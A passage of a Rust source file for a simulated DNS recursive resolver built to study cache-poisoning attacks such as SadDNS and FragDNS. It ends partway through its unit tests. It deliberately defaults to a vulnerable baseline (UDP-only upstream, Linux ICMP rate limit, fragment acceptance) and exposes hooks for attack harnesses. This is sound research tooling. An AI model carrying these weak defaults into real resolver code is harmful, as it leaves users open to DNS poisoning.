    pub port_range: (u16, u16),
    /// Whether 0x20 case randomisation is applied to outgoing queries.
    pub use_0x20: bool,
    /// Whether (modelled) DNSSEC validation is performed for signed zones.
    pub validate_dnssec: bool,
    /// EDNS UDP payload size advertised in upstream queries.
    pub edns_size: u16,
    /// How ANY-derived cache entries may be reused (Table 5).
    pub any_caching: AnyCachingPolicy,
    /// ICMP error rate-limit policy of the resolver's OS (SadDNS side channel).
    pub icmp_rate_limit: IcmpRateLimitPolicy,
    /// Whether fragmented responses are accepted (FragDNS prerequisite).
    pub accept_fragments: bool,
    /// Upstream transport policy (RFC 7766). The legacy UDP-only default
    /// mirrors the measured population: most resolvers the paper scanned did
    /// not retry truncated answers over TCP.
    pub transport_policy: UpstreamTransport,
    /// Upstream query timeout before retrying.
    pub query_timeout: Duration,
    /// Number of upstream retries before answering SERVFAIL.
    pub max_retries: u32,
    /// Known delegations (zone -> authoritative nameservers).
    pub delegations: Vec<Delegation>,
    /// When set, the resolver acts as a forwarder and sends every query to
    /// this upstream recursive resolver instead of the authoritative servers.
    pub upstream: Option<Ipv4Addr>,
}

impl ResolverConfig {
    /// A standard, RFC 5452-compliant resolver with the vulnerable Linux
    /// global ICMP rate limit and fragment acceptance (the common baseline
    /// the paper measures against).
    pub fn new(addr: Ipv4Addr) -> Self {
        ResolverConfig {
            addr,
            port_policy: PortPolicy::Random,
            port_range: (1024, u16::MAX),
            use_0x20: false,
            validate_dnssec: false,
            edns_size: 4096,
            any_caching: AnyCachingPolicy::CacheAndUse,
            icmp_rate_limit: IcmpRateLimitPolicy::linux_default(),
            accept_fragments: true,
            transport_policy: UpstreamTransport::UdpOnly,
            query_timeout: Duration::from_secs(2),
            max_retries: 2,
            delegations: Vec::new(),
            upstream: None,
        }
    }

    /// Adds a delegation.
    pub fn with_delegation(mut self, zone: &str, nameservers: Vec<Ipv4Addr>, signed: bool) -> Self {
        self.delegations.push(Delegation {
            zone: zone.parse().expect("valid zone"),
            nameservers,
            signed,
            trust_anchor: None,
        });
        self
    }

    /// Installs a DS trust anchor for an already-added delegation.
    pub fn with_trust_anchor(mut self, zone: &str, anchor: crate::dnssec::DsAnchor) -> Self {
        let zone: DomainName = zone.parse().expect("valid zone");
        if let Some(d) = self.delegations.iter_mut().find(|d| d.zone == zone) {
            d.trust_anchor = Some(anchor);
        }
        self
    }

    /// Enables 0x20 case randomisation.
    pub fn with_0x20(mut self) -> Self {
        self.use_0x20 = true;
        self
    }

    /// Enables DNSSEC validation.
    pub fn with_dnssec_validation(mut self) -> Self {
        self.validate_dnssec = true;
        self
    }

    /// Sets the upstream transport policy.
    pub fn with_transport(mut self, policy: UpstreamTransport) -> Self {
        self.transport_policy = policy;
        self
    }
}

/// Why a response was rejected (counters for the measurement harness).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ResolverStats {
    /// Queries received from clients.
    pub client_queries: u64,
    /// Client queries answered from cache.
    pub cache_answers: u64,
    /// Queries sent upstream (including retries and TCP re-queries).
    pub upstream_queries: u64,
    /// Upstream queries sent over TCP (subset of `upstream_queries`).
    pub tcp_upstream_queries: u64,
    /// TC=1 answers that triggered an RFC 7766 re-query over TCP.
    pub tcp_fallbacks: u64,
    /// Upstream responses accepted and cached.
    pub responses_accepted: u64,
    /// Responses dropped because the TXID did not match.
    pub rejected_txid: u64,
    /// Responses dropped because the question (or its 0x20 casing) mismatched.
    pub rejected_question: u64,
    /// Records dropped by bailiwick filtering.
    pub rejected_bailiwick_records: u64,
    /// Responses dropped by DNSSEC validation.
    pub rejected_dnssec: u64,
    /// Truncated (TC=1) responses received over UDP. Without TCP support the
    /// lookup fails visibly (SERVFAIL + TC to the clients); with
    /// [`UpstreamTransport::UdpTcFallback`] each one also counts a
    /// `tcp_fallbacks` re-query.
    pub truncated_responses: u64,
    /// Upstream timeouts.
    pub timeouts: u64,
    /// SERVFAIL answers returned to clients.
    pub servfails: u64,
}

impl ResolverStats {
    /// Exports the counters into a telemetry snapshot under `dns.resolver.*`.
    /// Every key is registered even at zero so the rendered key set is stable
    /// across runs (CI greps for specific metric lines).
    pub fn export_metrics(&self, m: &mut telemetry::MetricsSnapshot) {
        m.incr("dns.resolver.client_queries", self.client_queries);
        m.incr("dns.resolver.cache_answers", self.cache_answers);
        m.incr("dns.resolver.upstream_queries.udp", self.upstream_queries - self.tcp_upstream_queries);
        m.incr("dns.resolver.upstream_queries.tcp", self.tcp_upstream_queries);
        m.incr("dns.resolver.tc_fallbacks", self.tcp_fallbacks);
        m.incr("dns.resolver.responses_accepted", self.responses_accepted);
        m.incr("dns.resolver.rejected.txid", self.rejected_txid);
        m.incr("dns.resolver.rejected.question", self.rejected_question);
        m.incr("dns.resolver.rejected.bailiwick_records", self.rejected_bailiwick_records);
        m.incr("dns.resolver.bogus_dropped", self.rejected_dnssec);
        m.incr("dns.resolver.truncated_responses", self.truncated_responses);
        m.incr("dns.resolver.timeouts", self.timeouts);
        m.incr("dns.resolver.servfails", self.servfails);
    }
}

#[derive(Debug, Clone)]
struct Outstanding {
    txid: u16,
    question: Question,
    /// Question as sent on the wire (0x20-cased).
    wire_question: Question,
    /// Transport of the current attempt (a TC fallback flips UDP -> TCP).
    transport: Protocol,
    /// Attempt generation, bumped on every retry or transport switch. Timer
    /// tokens carry it so a timer armed for a superseded attempt (e.g. the
    /// UDP timer of a query that already fell back to TCP) cannot fire a
    /// spurious timeout against the live attempt.
    attempt: u32,
    port: u16,
    nameserver: Ipv4Addr,
    bailiwick: DomainName,
    signed_zone: bool,
    trust_anchor: Option<crate::dnssec::DsAnchor>,
    retries_left: u32,
    clients: Vec<ClientRef>,
    /// Original query type requested by the client (ANY handling).
    client_qtype: RecordType,
}

#[derive(Debug, Clone, Copy)]
struct ClientRef {
    addr: Ipv4Addr,
    port: u16,
    txid: u16,
}

/// The recursive resolver node.
pub struct Resolver {
    stack: HostStack,
    config: ResolverConfig,
    cache: SharedCache,
    /// Client-facing UDP socket (port 53).
    client_sock: Box<dyn Socket>,
    /// One ephemeral UDP socket per outstanding UDP upstream query.
    upstream_socks: FastHashMap<u16, Box<dyn Socket>>,
    /// The upstream TCP client socket (all connections share
    /// [`RESOLVER_TCP_PORT`]; one connection per nameserver, reused).
    tcp: Box<dyn Socket>,
    /// Per-nameserver reassembly of length-prefixed TCP answers.
    tcp_rx: HashMap<Endpoint, TcpFrameBuffer>,
    outstanding: FastHashMap<u64, Outstanding>,
    port_to_token: FastHashMap<u16, u64>,
    next_token: u64,
    next_sequential_port: u16,
    /// Counters.
    pub stats: ResolverStats,
}

impl Resolver {
    /// Creates a resolver with its own private cache.
    pub fn new(config: ResolverConfig) -> Self {
        Resolver::with_shared_cache(config, SharedCache::new())
    }

    /// Creates a resolver answering from (and feeding) a [`SharedCache`] —
    /// one frontend of an anycast fleet. Every resolver built from a clone of
    /// the same handle shares cache contents, hits, and poisoning state.
    pub fn with_shared_cache(config: ResolverConfig, cache: SharedCache) -> Self {
        let stack_cfg = StackConfig {
            icmp_rate_limit: config.icmp_rate_limit,
            accept_fragments: config.accept_fragments,
            ipid_policy: IpIdPolicy::Random,
            ..Default::default()
        };
        let mut stack = HostStack::new(vec![config.addr], stack_cfg);
        let client_sock = UdpTransport.bind(&mut stack, crate::well_known_ports::DNS);
        let tcp = TcpTransport::client().bind(&mut stack, RESOLVER_TCP_PORT);
        let next_sequential_port = match config.port_policy {
            PortPolicy::Sequential(start) => start,
            _ => 10_000,
        };
        Resolver {
            stack,
            config,
            cache,
            client_sock,
            upstream_socks: FastHashMap::default(),
            tcp,
            tcp_rx: HashMap::new(),
            outstanding: FastHashMap::default(),
            port_to_token: FastHashMap::default(),
            next_token: 1,
            next_sequential_port,
            stats: ResolverStats::default(),
        }
    }

    /// The resolver's address.
    pub fn addr(&self) -> Ipv4Addr {
        self.config.addr
    }

    /// Read access to the cache (poisoning checks, cross-application probes).
    pub fn cache(&self) -> std::cell::Ref<'_, Cache> {
        self.cache.borrow()
    }

    /// Mutable access to the cache (operator interventions in experiments).
    pub fn cache_mut(&mut self) -> std::cell::RefMut<'_, Cache> {
        self.cache.borrow_mut()
    }

    /// The shareable cache handle (clone it into sibling frontends).
    pub fn shared_cache(&self) -> SharedCache {
        self.cache.clone()
    }

    /// Exports this resolver's deterministic counters into a telemetry
    /// snapshot: `dns.resolver.*` (see [`ResolverStats::export_metrics`])
    /// plus the cache's `dns.cache.*` hit/miss/expired/insertion counters.
    pub fn export_metrics(&self, m: &mut telemetry::MetricsSnapshot) {
        self.stats.export_metrics(m);
        let cache = self.cache.borrow();
        m.incr("dns.cache.hits", cache.hits);
        m.incr("dns.cache.misses", cache.misses);
        m.incr("dns.cache.expired", cache.expired);
        m.incr("dns.cache.insertions", cache.insertions);
    }

    /// Read access to the configuration.
    pub fn config(&self) -> &ResolverConfig {
        &self.config
    }

    /// Read access to the OS stack (ICMP limiter inspection in measurements).
    pub fn stack(&self) -> &HostStack {
        &self.stack
    }

    /// Ephemeral UDP ports with outstanding upstream queries — what the
    /// SadDNS port scan is trying to find. Empty while the resolver queries
    /// over TCP, which is exactly why that policy closes the side channel.
    pub fn outstanding_ports(&self) -> Vec<u16> {
        self.port_to_token.keys().copied().collect()
    }

    /// Number of outstanding upstream queries.
    pub fn outstanding_count(&self) -> usize {
        self.outstanding.len()
    }

    /// Per-connection statistics of the upstream TCP socket.
    pub fn tcp_flows(&self) -> Vec<FlowStats> {
        self.tcp.flows()
    }

    /// Whether the resolver's cache maps `name` to `addr` — the canonical
    /// "was the cache poisoned?" check used by the attack harnesses.
    pub fn is_poisoned_with(&self, name: &DomainName, addr: Ipv4Addr, now: SimTime) -> bool {
        self.cache.borrow().is_poisoned_with(name, addr, now)
    }

    fn allocate_port(&mut self, rng: &mut impl Rng) -> u16 {
        match self.config.port_policy {
            PortPolicy::Random => loop {
                let (lo, hi) = self.config.port_range;
                let p = rng.gen_range(lo..=hi);
                if !self.stack.is_port_open(p) {
                    return p;
                }
            },
            PortPolicy::Sequential(_) => {
                let p = self.next_sequential_port;
                self.next_sequential_port = self.next_sequential_port.wrapping_add(1).max(1024);
                p
            }
            PortPolicy::Fixed(p) => p,
        }
    }

    /// Packs a query token and its attempt generation into one timer token.
    /// Tokens are sequential from 1, so 56 bits are plenty.
    fn timer_token(token: u64, attempt: u32) -> u64 {
        (token << 8) | u64::from(attempt & 0xff)
    }

    fn delegation_for(&self, name: &DomainName) -> Option<&Delegation> {
        self.config.delegations.iter().filter(|d| name.is_subdomain_of(&d.zone)).max_by_key(|d| d.zone.label_count())
    }

    /// Starts (or restarts) an upstream query. Returns `false` when no
    /// nameserver is known for the name.
    fn send_upstream(&mut self, token: u64, ctx: &mut Ctx<'_>) -> bool {
        let Some(entry) = self.outstanding.get(&token).cloned() else { return false };
        let query = Message::query(entry.txid, entry.wire_question.name.clone(), entry.wire_question.qtype)
            .with_edns(self.config.edns_size);
        let payload = query.encode();
        let ns = Endpoint::new(entry.nameserver, crate::well_known_ports::DNS);
        match entry.transport {
            Protocol::Tcp => {
                self.stats.tcp_upstream_queries += 1;
                let framed = frame_tcp(&payload);
                let tcp = &mut self.tcp;
                with_io(&mut self.stack, ctx, |io| tcp.send_to(io, ns, &framed));
            }
            _ => {
                let sock = self.upstream_socks.get_mut(&entry.port);
                with_io(&mut self.stack, ctx, |io| {
                    if let Some(sock) = sock {
                        sock.send_to(io, ns, &payload);
                    }
                });
            }
        }
        self.stats.upstream_queries += 1;
        ctx.set_timer(self.config.query_timeout, Self::timer_token(token, entry.attempt));
        true
    }

    fn start_recursion(&mut self, question: Question, client: Option<ClientRef>, ctx: &mut Ctx<'_>) {
        let (nameserver, bailiwick, signed, anchor) = if let Some(upstream) = self.config.upstream {
            (upstream, DomainName::root(), false, None)
        } else {
            match self.delegation_for(&question.name) {
                Some(d) if !d.nameservers.is_empty() => {
                    let idx = ctx.rng().gen_range(0..d.nameservers.len());
                    (d.nameservers[idx], d.zone.clone(), d.signed, d.trust_anchor.clone())
                }
                _ => {
                    // No known nameserver: SERVFAIL immediately.
                    if let Some(c) = client {
                        self.answer_client_error(&question, c, Rcode::ServFail, false, ctx);
                        self.stats.servfails += 1;
                    }
                    return;
                }
            }
        };
        let txid: u16 = ctx.rng().gen();
        let tcp_only = self.config.transport_policy == UpstreamTransport::TcpOnly;
        let (transport, port) =
            if tcp_only { (Protocol::Tcp, RESOLVER_TCP_PORT) } else { (Protocol::Udp, self.allocate_port(ctx.rng())) };
        let wire_name =
            if self.config.use_0x20 { question.name.randomize_case(ctx.rng()) } else { question.name.clone() };
        let wire_question = Question { name: wire_name, qtype: question.qtype };
        let token = self.next_token;
        self.next_token += 1;
        if transport == Protocol::Udp {
            let sock = UdpTransport.bind(&mut self.stack, port);
            self.upstream_socks.insert(port, sock);
            self.port_to_token.insert(port, token);
        }
        self.outstanding.insert(
            token,
            Outstanding {
                txid,
                question: question.clone(),
                wire_question,
                transport,
                attempt: 0,
                port,
                nameserver,
                bailiwick,
                signed_zone: signed,
                trust_anchor: anchor,
                retries_left: self.config.max_retries,
                clients: client.into_iter().collect(),
                client_qtype: question.qtype,
            },
        );
        self.send_upstream(token, ctx);
    }

    fn answer_client_from_records(
        &mut self,
        question: &Question,
        records: &[ResourceRecord],
        client: ClientRef,
        ctx: &mut Ctx<'_>,
    ) {
        let mut response = Message {
            header: crate::message::Header {
                id: client.txid,
                is_response: true,
                authoritative: false,
                truncated: false,
                recursion_desired: true,
                recursion_available: true,
                authenticated_data: false,
                rcode: Rcode::NoError,
            },
            questions: vec![question.clone()],
            answers: records.to_vec(),
            authorities: Vec::new(),
            additionals: Vec::new(),
        };
        if records.is_empty() {
            response.header.rcode = Rcode::NxDomain;
        }
        let payload = response.encode();
        let sock = &mut self.client_sock;
        with_io(&mut self.stack, ctx, |io| sock.send_to(io, Endpoint::new(client.addr, client.port), &payload));
    }

    fn answer_client_error(
        &mut self,
        question: &Question,
        client: ClientRef,
        rcode: Rcode,
        truncated: bool,
        ctx: &mut Ctx<'_>,
    ) {
        let mut response = Message::query(client.txid, question.name.clone(), question.qtype);
        response.header.is_response = true;
        response.header.recursion_available = true;
        response.header.rcode = rcode;
        response.header.truncated = truncated;
        let payload = response.encode();
        let sock = &mut self.client_sock;
        with_io(&mut self.stack, ctx, |io| sock.send_to(io, Endpoint::new(client.addr, client.port), &payload));
    }

    fn handle_client_query(&mut self, dgram: &UdpDatagram, ctx: &mut Ctx<'_>) {
        let Ok(query) = Message::decode(&dgram.payload) else { return };
        if query.header.is_response {
            return;
        }
        let Some(question) = query.question().cloned() else { return };
        self.stats.client_queries += 1;
        let client = ClientRef { addr: dgram.src, port: dgram.src_port, txid: query.header.id };

        // ANY handling per implementation profile.
        if question.qtype == RecordType::ANY && self.config.any_caching == AnyCachingPolicy::Unsupported {
            self.answer_client_error(&question, client, Rcode::NotImp, false, ctx);
            return;
        }

        // Cache lookup.
        let allow_any_derived = self.config.any_caching == AnyCachingPolicy::CacheAndUse;
        let now = ctx.now();
        let cached = self.cache.borrow_mut().lookup_with_policy(&question.name, question.qtype, now, allow_any_derived);
        if let Some(records) = cached {
            self.stats.cache_answers += 1;
            self.answer_client_from_records(&question, &records, client, ctx);
            return;
        }

        // Join an identical outstanding query if one exists.
        if let Some((_, entry)) = self
            .outstanding
            .iter_mut()
            .find(|(_, o)| o.question.name == question.name && o.question.qtype == question.qtype)
        {
            entry.clients.push(client);
            return;
        }

        self.start_recursion(question, Some(client), ctx);
    }

    /// Validates and ingests an upstream response delivered to a UDP
    /// ephemeral port.
    fn handle_upstream_response(&mut self, dgram: &UdpDatagram, ctx: &mut Ctx<'_>) {
        let Some(&token) = self.port_to_token.get(&dgram.dst_port) else { return };
        // Fast header peek before the full parse: the TXID and QR bit sit at
        // fixed offsets, so off-path floods sweeping the TXID space (SadDNS
        // sprays 2^16 responses per round) are rejected without decoding
        // names and records. Anything that passes the peek takes the
        // identical full-decode path as before.
        match dgram.payload.get(..3) {
            Some(&[id_hi, id_lo, flags_hi]) => {
                if flags_hi & 0x80 == 0 {
                    // QR clear: a query, not a response. Silently ignored,
                    // exactly like the decoded `!is_response` path.
                    return;
                }
                if let Some(entry) = self.outstanding.get(&token) {
                    if u16::from_be_bytes([id_hi, id_lo]) != entry.txid {
                        self.stats.rejected_txid += 1;
                        return;
                    }
                }
            }
            _ => return, // shorter than a header: Message::decode would fail
        }
        let Ok(response) = Message::decode(&dgram.payload) else { return };
        if !response.header.is_response {
            return;
        }
        self.ingest_upstream_response(token, response, ctx);
    }

    /// The shared validation pipeline for upstream responses, regardless of
    /// the transport they arrived over: TXID, question echo (0x20), TC
    /// handling, bailiwick filtering, DNSSEC, then acceptance.
    fn ingest_upstream_response(&mut self, token: u64, response: Message, ctx: &mut Ctx<'_>) {
        let Some(entry) = self.outstanding.get(&token).cloned() else { return };

        // Challenge validation: TXID.
        if response.header.id != entry.txid {
            self.stats.rejected_txid += 1;
            return;
        }
        // Challenge validation: question echo (0x20 when enabled).
        let Some(echoed) = response.question() else {
            self.stats.rejected_question += 1;
            return;
        };
        let question_ok = if self.config.use_0x20 {
            echoed.name.eq_case_sensitive(&entry.wire_question.name) && echoed.qtype == entry.wire_question.qtype
        } else {
            echoed.name == entry.wire_question.name && echoed.qtype == entry.wire_question.qtype
        };
        if !question_ok {
            self.stats.rejected_question += 1;
            return;
        }

        // A truncated answer carries no usable records (RFC 2181 §9 — and
        // this server strips them anyway). What happens next is the
        // transport policy's call.
        if response.header.truncated {
            self.stats.truncated_responses += 1;
            if self.config.transport_policy == UpstreamTransport::UdpTcFallback && entry.transport == Protocol::Udp {
                // RFC 7766: re-query the same question over TCP with a
                // fresh TXID; the UDP side of the query is torn down.
                self.stats.tcp_fallbacks += 1;
                self.port_to_token.remove(&entry.port);
                self.upstream_socks.remove(&entry.port);
                self.stack.close_port(entry.port);
                let new_txid: u16 = ctx.rng().gen();
                if let Some(e) = self.outstanding.get_mut(&token) {
                    e.transport = Protocol::Tcp;
                    e.txid = new_txid;
                    e.port = RESOLVER_TCP_PORT;
                    // New generation: the UDP attempt's pending timer must
                    // not abort the TCP re-query it was superseded by.
                    e.attempt = e.attempt.wrapping_add(1);
                }
                self.send_upstream(token, ctx);
            } else {
                // No TCP path: the lookup fails *visibly* — clients get
                // SERVFAIL with the TC bit echoed so the outcome is
                // distinguishable from an ordinary upstream timeout.
                self.finish_query_truncated(token, ctx);
            }
            return;
        }

        // Bailiwick filtering.
        let mut in_bailiwick: Vec<ResourceRecord> = Vec::new();
        for rr in response.all_records() {
            if matches!(rr.rdata, RData::Opt { .. }) {
                continue;
            }
            if rr.name.is_subdomain_of(&entry.bailiwick) {
                in_bailiwick.push(rr.clone());
            } else {
                self.stats.rejected_bailiwick_records += 1;
            }
        }

        // DNSSEC validation: for signed zones a validating resolver runs the
        // full RFC 4035 pipeline — the DNSKEY RRset must chain to the DS
        // trust anchor, every RRset must carry a verifying RRSIG, and an
        // *empty* answer needs authenticated denial of existence via
        // NSEC/NSEC3 (RFC 4035 §3.1.3). A bogus response is dropped; an
        // `Insecure` one (no anchor, or opt-out-covered) is accepted
        // unauthenticated — the downgrade surface.
        if self.config.validate_dnssec && entry.signed_zone {
            let now_secs = crate::dnssec::sim_secs(ctx.now());
            let validator =
                crate::dnssec::Validator::new(entry.bailiwick.clone(), entry.trust_anchor.clone(), now_secs);
            let verdict = validator.validate(&in_bailiwick, &entry.question.name, entry.question.qtype);
            if let crate::dnssec::Validation::Bogus(_) = verdict {
                self.stats.rejected_dnssec += 1;
                return;
            }
        }

        self.stats.responses_accepted += 1;
        let now = ctx.now();
        let from_any = entry.client_qtype == RecordType::ANY;
        self.cache.borrow_mut().insert_records(&in_bailiwick, now, from_any);
        let answers: Vec<ResourceRecord> = in_bailiwick
            .iter()
            .filter(|r| {
                entry.client_qtype == RecordType::ANY
                    || r.rtype() == entry.client_qtype
                    || r.rtype() == RecordType::CNAME
            })
            .cloned()
            .collect();
        self.finish_query(token, &answers, ctx);
    }

    /// Ingests stream bytes from an upstream TCP connection, matching each
    /// complete frame to its outstanding query. The match key is the echoed
    /// question (unique across outstanding queries because identical client
    /// queries join) plus the nameserver — TXID and 0x20 are then enforced
    /// by the shared validation path.
    fn handle_tcp_data(&mut self, peer: Endpoint, payload: &[u8], ctx: &mut Ctx<'_>) {
        for frame in TcpFrameBuffer::push_and_drain(&mut self.tcp_rx, peer, payload) {
            let Ok(response) = Message::decode(&frame) else { continue };
            if !response.header.is_response {
                continue;
            }
            let Some(echoed) = response.question().cloned() else { continue };
            let token = self
                .outstanding
                .iter()
                .find(|(_, o)| {
                    o.transport == Protocol::Tcp
                        && o.nameserver == peer.addr
                        && o.wire_question.name == echoed.name
                        && o.wire_question.qtype == echoed.qtype
                })
                .map(|(t, _)| *t);
            if let Some(token) = token {
                self.ingest_upstream_response(token, response, ctx);
            }
        }
    }

    /// Processes one TCP stack event through the upstream socket.
    fn handle_tcp_event(&mut self, event: &StackEvent, ctx: &mut Ctx<'_>) {
        let tcp = &mut self.tcp;
        let sock_events = with_io(&mut self.stack, ctx, |io| tcp.handle(io, event));
        for se in sock_events {
            match se {
                SocketEvent::Data { peer, payload, .. } => self.handle_tcp_data(peer, &payload, ctx),
                SocketEvent::PeerClosed { peer, .. } | SocketEvent::Reset { peer, .. } => {
                    self.tcp_rx.remove(&peer);
                }
                SocketEvent::Connected { .. } => {}
            }
        }
    }

    /// Tears down the transport side of a finished query. For TCP the
    /// connection is closed once no other outstanding query shares it
    /// (RFC 7766 connection reuse).
    fn release_transport(&mut self, entry: &Outstanding, ctx: &mut Ctx<'_>) {
        match entry.transport {
            Protocol::Udp => {
                self.port_to_token.remove(&entry.port);
                self.upstream_socks.remove(&entry.port);
                self.stack.close_port(entry.port);
            }
            Protocol::Tcp => {
                let still_used =
                    self.outstanding.values().any(|o| o.transport == Protocol::Tcp && o.nameserver == entry.nameserver);
                if !still_used {
                    let peer = Endpoint::new(entry.nameserver, crate::well_known_ports::DNS);
                    self.tcp_rx.remove(&peer);
                    let tcp = &mut self.tcp;
                    with_io(&mut self.stack, ctx, |io| tcp.close_peer(io, peer));
                }
            }
            _ => {}
        }
    }

    fn finish_query(&mut self, token: u64, answers: &[ResourceRecord], ctx: &mut Ctx<'_>) {
        if let Some(entry) = self.outstanding.remove(&token) {
            self.release_transport(&entry, ctx);
            for client in entry.clients.clone() {
                self.answer_client_from_records(&entry.question, answers, client, ctx);
            }
        }
    }

    /// Fails a query whose only answer was truncated and unrecoverable
    /// (UDP-only resolver): SERVFAIL with the TC bit echoed to every waiting
    /// client, nothing cached.
    fn finish_query_truncated(&mut self, token: u64, ctx: &mut Ctx<'_>) {
        if let Some(entry) = self.outstanding.remove(&token) {
            self.release_transport(&entry, ctx);
            self.stats.servfails += entry.clients.len() as u64;
            for client in entry.clients.clone() {
                self.answer_client_error(&entry.question, client, Rcode::ServFail, true, ctx);
            }
        }
    }

    fn handle_timeout(&mut self, token: u64, ctx: &mut Ctx<'_>) {
        let Some(entry) = self.outstanding.get_mut(&token) else { return };
        self.stats.timeouts += 1;
        if entry.retries_left > 0 {
            entry.retries_left -= 1;
            entry.attempt = entry.attempt.wrapping_add(1);
            let transport = entry.transport;
            let ns = entry.nameserver;
            let old_port = entry.port;
            // New TXID per retry (fresh challenge values).
            let new_txid: u16 = ctx.rng().gen();
            entry.txid = new_txid;
            match transport {
                Protocol::Tcp => {
                    // Abort the (possibly half-open) connection so the retry
                    // starts a clean handshake — unless another outstanding
                    // query still multiplexes on an *established* connection
                    // (RFC 7766 reuse): one query's timeout must not tear
                    // down a sibling's healthy transport. A half-open or
                    // closing connection serves no sibling either, so it is
                    // aborted regardless — otherwise every sharer would just
                    // queue its retry bytes into a dead handshake.
                    let peer = Endpoint::new(ns, crate::well_known_ports::DNS);
                    let shared = self
                        .outstanding
                        .iter()
                        .any(|(t, o)| *t != token && o.transport == Protocol::Tcp && o.nameserver == ns);
                    let healthy = self.tcp.flows().iter().any(|f| f.peer == peer && f.state == "established");
                    if !(shared && healthy) {
                        self.tcp_rx.remove(&peer);
                        let tcp = &mut self.tcp;
                        with_io(&mut self.stack, ctx, |io| tcp.abort_peer(io, peer));
                    }
                }
                _ => {
                    // New port per retry.
                    self.port_to_token.remove(&old_port);
                    self.upstream_socks.remove(&old_port);
                    self.stack.close_port(old_port);
                    let new_port = self.allocate_port(ctx.rng());
                    let sock = UdpTransport.bind(&mut self.stack, new_port);
                    self.upstream_socks.insert(new_port, sock);
                    if let Some(entry) = self.outstanding.get_mut(&token) {
                        entry.port = new_port;
                    }
                    self.port_to_token.insert(new_port, token);
                }
            }
            self.send_upstream(token, ctx);
        } else {
            let entry = self.outstanding.get(&token).cloned().expect("checked above");
            self.stats.servfails += entry.clients.len() as u64;
            self.outstanding.remove(&token);
            self.release_transport(&entry, ctx);
            for client in entry.clients {
                self.answer_client_error(&entry.question, client, Rcode::ServFail, false, ctx);
            }
        }
    }
}

impl Node for Resolver {
    fn on_packet(&mut self, ctx: &mut Ctx<'_>, pkt: Ipv4Packet) {
        let now = ctx.now();
        let output = {
            let rng = ctx.rng();
            self.stack.handle_packet(&pkt, now, rng)
        };
        for reply in output.replies {
            ctx.send(reply);
        }
        for event in output.events {
            match &event {
                StackEvent::Udp(dgram) => {
                    if dgram.dst_port == crate::well_known_ports::DNS {
                        self.handle_client_query(dgram, ctx);
                    } else {
                        self.handle_upstream_response(dgram, ctx);
                    }
                }
                StackEvent::Tcp(_) => self.handle_tcp_event(&event, ctx),
                _ => {}
            }
        }
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, raw: u64) {
        let token = raw >> 8;
        let attempt = (raw & 0xff) as u32;
        // A timer only fires for the attempt generation it was armed for:
        // stale timers of answered, retried or transport-switched attempts
        // are no-ops.
        if self.outstanding.get(&token).is_some_and(|o| o.attempt & 0xff == attempt) {
            self.handle_timeout(token, ctx);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::nameserver::{Nameserver, NameserverConfig};
    use crate::zone::Zone;

    const RESOLVER_ADDR: Ipv4Addr = Ipv4Addr::new(30, 0, 0, 1);
    const NS_ADDR: Ipv4Addr = Ipv4Addr::new(123, 0, 0, 53);
    const CLIENT_ADDR: Ipv4Addr = Ipv4Addr::new(30, 0, 0, 25);
    const ATTACKER_ADDR: Ipv4Addr = Ipv4Addr::new(6, 6, 6, 6);

    fn n(s: &str) -> DomainName {
        s.parse().unwrap()
    }

    fn victim_zone() -> Zone {
        let mut z = Zone::new(n("vict.im"));
        z.add_ns("ns1.vict.im", NS_ADDR);
        z.add_a("vict.im", "30.0.0.80".parse().unwrap());
        z.add_a("www.vict.im", "30.0.0.80".parse().unwrap());
        z.add_txt("vict.im", "v=spf1 ip4:30.0.0.0/24 -all");
        z
    }

    fn resolver_config() -> ResolverConfig {
        ResolverConfig::new(RESOLVER_ADDR).with_delegation("vict.im", vec![NS_ADDR], false)
    }

    struct Setup {
        sim: Simulator,
        resolver: NodeId,
        client: NodeId,
        #[allow(dead_code)]
        ns: NodeId,
    }

    fn setup(config: ResolverConfig, zone: Zone) -> Setup {
        setup_with_ns(config, NameserverConfig::new(NS_ADDR), zone)
    }

    fn setup_with_ns(config: ResolverConfig, ns_config: NameserverConfig, zone: Zone) -> Setup {
        let mut sim = Simulator::new(11);
        let resolver = sim.add_node("resolver", vec![RESOLVER_ADDR], Resolver::new(config));
        let ns = sim.add_node("ns", vec![NS_ADDR], Nameserver::new(ns_config, vec![zone]));
        let client = sim.add_node("client", vec![CLIENT_ADDR], SinkNode::default());
        sim.connect(resolver, ns, Link::with_latency(Duration::from_millis(20)));
        sim.connect(resolver, client, Link::with_latency(Duration::from_millis(1)));
        Setup { sim, resolver, client, ns }
    }

    fn client_query(name: &str, qtype: RecordType, id: u16) -> Ipv4Packet {
        let q = Message::query(id, n(name), qtype);
        UdpDatagram::new(CLIENT_ADDR, RESOLVER_ADDR, 5353, 53, q.encode()).into_packet(1, 64)
    }

    #[test]
    fn resolves_and_caches() {
        let mut s = setup(resolver_config(), victim_zone());
        s.sim.inject(s.client, client_query("www.vict.im", RecordType::A, 77));
        s.sim.run();
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert_eq!(r.stats.client_queries, 1);
        assert_eq!(r.stats.upstream_queries, 1);
        assert_eq!(r.stats.responses_accepted, 1);
        assert_eq!(r.cache().cached_a(&n("www.vict.im"), s.sim.now()), Some("30.0.0.80".parse().unwrap()));
        // The client received an answer.
        assert!(s.sim.stats(s.client).udp_received >= 1);
        // Second identical query is served from cache without upstream traffic.
        s.sim.inject(s.client, client_query("www.vict.im", RecordType::A, 78));
        s.sim.run();
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        assert_eq!(r.stats.upstream_queries, 1);
        assert_eq!(r.stats.cache_answers, 1);
    }

    #[test]
    fn random_ports_and_txids_differ_between_queries() {
        let mut s = setup(resolver_config(), victim_zone());
        s.sim.inject(s.client, client_query("www.vict.im", RecordType::A, 1));
        s.sim.inject(s.client, client_query("vict.im", RecordType::TXT, 2));
        s.sim.run_until(SimTime::ZERO + Duration::from_millis(5));
        let r = s.sim.node_ref::<Resolver>(s.resolver).unwrap();
        let ports = r.outstanding_ports();
        assert_eq!(ports.len(), 2);
        assert_ne!(ports[0], ports[1]);
        s.sim.run();
    }

    #[test]
    fn servfail_when_nameserver_unreachable() {
        // Delegation points at an address that no node owns.
        let cfg =
            ResolverConfig::new(RESOLVER_ADDR).with_delegation("vict.im", vec!["9.9.9.9".parse().unwrap()], false);
        let mut s = setup(cfg, victim_zone());
        s.sim.inject(s.client, client_query("www.vict.im", RecordType::A, 5));
        s.sim.run();
